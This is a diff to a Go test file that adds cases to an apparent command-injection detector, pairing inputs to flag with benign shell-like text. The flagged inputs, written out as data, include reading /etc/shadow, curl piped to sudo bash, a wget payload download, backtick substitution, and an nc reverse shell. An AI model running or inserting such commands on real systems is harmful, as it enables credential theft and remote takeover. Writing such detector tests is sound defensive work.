@@ -88,6 +88,11 @@ func TestCMDEXE(t *testing.T) {
 		{"smtp injection", "x\r\nMAIL FROM:<a@b.example>", true},
 		{"imap injection", "\r\na001 STATUS INBOX (MESSAGES)", true},
 		{"sqlite shell", ";\n.shell nc 10.0.0.1 6666 -e sh", true},
+		{"command line then hostile", "ls -la; cat /etc/shadow", true},
+		{"command line with substitution", "curl https://x.example/a || `curl https://x.example/b`", true},
+		{"curl pipe bash", "curl -sL https://x.example/setup.sh | sudo bash -", true},
+		{"newline opens value", "\nid\n", true},
+		{"prose with hostile command", "nice product; wget http://x.example/s -O /tmp/s", true},
 
 		// benign
 		{"prose semicolon", "I like cats; dogs are fine too", false},
@@ -139,6 +144,15 @@ func TestCMDEXE(t *testing.T) {
 		{"makefile var", "$(CC) -o app main.c", false},
 		{"phone", "+1 (555) 010-9999", false},
 		{"semicolon list of names", "Smith, J.; Doe, A.; Roe, R.", false},
+		{"command line with and", "cd /var/www/html && ls -la", false},
+		{"command line with pipe", "grep -r \"foo\" . | wc -l", false},
+		{"install instructions", "To fix it: sudo apt-get update && sudo apt-get install -y nginx", false},
+		{"prose pipes", "Use `cat file.txt | sort | uniq -c` to count lines", false},
+		{"prose net user", "net income | net user growth | net promoter score", false},
+		{"prose separators", "Use ; to separate commands, e.g. ls; pwd", false},
+		{"python module", "python3 -m venv .venv", false},
+		{"git chain", "git commit -m \"fix: bug\" && git push", false},
+		{"mkdir chain", "mkdir -p build && cd build && cmake ..", false},
 	}
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
